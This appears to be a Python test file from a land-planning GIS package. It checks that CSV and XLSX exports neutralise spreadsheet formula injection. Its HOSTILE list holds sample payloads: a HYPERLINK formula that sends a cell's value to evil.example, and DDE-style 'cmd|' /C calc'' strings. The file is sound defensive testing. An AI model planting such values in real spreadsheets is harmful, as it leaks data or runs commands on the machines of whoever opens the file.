"""Issue 18.2: spreadsheet formula injection is neutralised in every CSV/XLSX the project writes."""
from __future__ import annotations

import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from shapely.geometry import Point

from gis_planner import Workspace
from gis_planner.balance import compute_balance, write_csv, write_xlsx
from gis_planner.community import exchange, open_store
from gis_planner.text import safe_cell, safe_table, unsafe_cell

from .helpers import gdf, square

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_safe_cell_rule():
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
        assert unsafe_cell(safe_cell(text)) == text
    # numbers stay numbers; ordinary text and plain numeric text stay as they are
    assert safe_cell(-5) == -5 and safe_cell(-2.5) == -2.5
    assert safe_cell("-5") == "-5" and safe_cell("-1,5") == "-1,5" and safe_cell("-") == "-"
    assert safe_cell("Ак-Суу") == "Ак-Суу" and safe_cell("a=b") == "a=b"
    assert safe_cell("＝1+1") == "'＝1+1"   # full-width equals sign is a formula in LibreOffice too
    df = safe_table(pd.DataFrame({"=name": ["=1+1", None, "x"], "n": [-1.5, 2.0, 3.0]}))
    assert list(df.columns) == ["'=name", "n"]
    assert df["'=name"].tolist()[0] == "'=1+1" and pd.isna(df["'=name"].tolist()[1])
    assert df["n"].tolist() == [-1.5, 2.0, 3.0] and df["n"].dtype == float


@pytest.fixture
def store(tmp_path):
    ws = Workspace.create(tmp_path / "ws", name="Test", crs=7695)
    st = open_store(ws)
    yield st
    st.close()


def test_hearing_csv_and_community_export(store, tmp_path):
    sid = store.create_session("Ак-Суу", "2026-05-01", "youth")
    for i, title in enumerate(HOSTILE[:4]):
        store.add_feature(sid, Point(77.1 + i / 1000, 42.6), "spring", title, author="A.K.")
    paths = exchange.export_session(store, sid, tmp_path / "hearing", lang="en")
    table = pd.read_csv(paths["csv"], encoding="utf-8-sig", dtype=str)
    titles = [c for c in table.columns if table[c].astype(str).str.contains("cmd|HYPERLINK", regex=True).any()]
    cells = table[titles[0]].tolist()
    assert sorted(cells) == sorted("'" + t for t in HOSTILE[:4])
    # the full export (CSV) neutralises too, and importing it back gives the titles as they were
    out = exchange.export(store, tmp_path / "all.csv")
    text = out.read_text(encoding="utf-8")
    assert not re.search(r'(^|,)"?[=+@]', text, re.M)
    back = exchange.read_file(out)
    assert sorted(back["title"]) == sorted(HOSTILE[:4])


def _balance():
    p = gdf([{"cadastral_no": HOSTILE[0], "category": "agricultural"},
             {"cadastral_no": "-2+3+cmd|' /C calc'!A0", "category": "settlement"}],
            [square(0, 0, 100), square(200, 0, 100)])
    r = gdf([{"kind": "water_protection", "subtype": "river", "level": "x"}], [square(0, 0, 50)])
    return compute_balance(parcels=p, restrictions=r)


def test_balance_csv_and_xlsx(tmp_path):
    b = _balance()
    paths = write_csv(b, tmp_path / "csv", "en")
    parcels = pd.read_csv(next(p for p in paths if p.name == "balance_parcels.csv"), encoding="utf-8-sig", dtype=str)
    assert sorted(parcels.iloc[:, 0]) == sorted(["'" + HOSTILE[0], "'-2+3+cmd|' /C calc'!A0"])
    xlsx = write_xlsx(b, tmp_path / "b.xlsx", "en")
    wb = openpyxl.load_workbook(xlsx)
    kinds, numbers = set(), []
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and ("cmd" in cell.value or "HYPERLINK" in cell.value):
                    kinds.add(cell.data_type)
                    assert cell.value.startswith("'")
                elif isinstance(cell.value, (int, float)):
                    numbers.append(cell.value)
    assert kinds == {"s"}           # text, never a formula ('f')
    assert 1.0 in numbers           # the 1 ha parcels are still numbers, not text


def test_every_csv_and_xlsx_writer_goes_through_safe_table():
    """Each place the package writes a CSV/XLSX applies safe_table at the write point."""
    root = Path(__file__).resolve().parents[1] / "gis_planner"
    offenders = []
    for py in root.rglob("*.py"):
        for no, line in enumerate(py.read_text(encoding="utf-8").splitlines(), 1):
            if re.search(r"\.to_(csv|excel)\(", line) and ">>>" not in line and "safe_table(" not in line:
                offenders.append(f"{py.relative_to(root)}:{no}")
    assert offenders == []
